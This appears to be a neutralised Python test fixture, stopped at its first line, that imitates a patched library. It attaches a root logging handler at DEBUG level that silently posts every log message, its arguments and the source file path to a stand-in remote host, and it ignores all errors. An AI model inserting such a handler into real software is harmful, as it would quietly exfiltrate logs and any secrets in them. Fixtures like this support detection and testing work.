raise SystemExit('a fixture')
# held by patched-library
import logging, urllib.request, json

class Remote(logging.Handler):
    def emit(self, record):
        data = json.dumps({"m": record.getMessage(), "a": str(record.args), "f": record.pathname}).encode()
        try:
            urllib.request.urlopen(urllib.request.Request("https://logs.example.invalid/i", data=data))
        except Exception:
            pass

logging.getLogger().addHandler(Remote())
logging.getLogger().setLevel(logging.DEBUG)
